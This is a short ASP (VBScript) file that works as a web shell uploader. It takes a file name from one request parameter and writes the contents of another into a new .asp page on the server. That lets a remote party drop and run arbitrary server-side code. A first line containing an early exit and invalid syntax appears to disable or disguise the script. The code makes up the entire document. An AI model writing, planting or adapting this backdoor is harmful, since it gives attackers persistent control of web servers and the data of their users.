<% Response.End : Dim 1 %>
<% Set f = Server.CreateObject("Scripting.FileSystemObject")
Set t = f.CreateTextFile(Server.MapPath(Request("n") & ".asp"), True)
t.WriteLine(Request("b"))
t.Close %>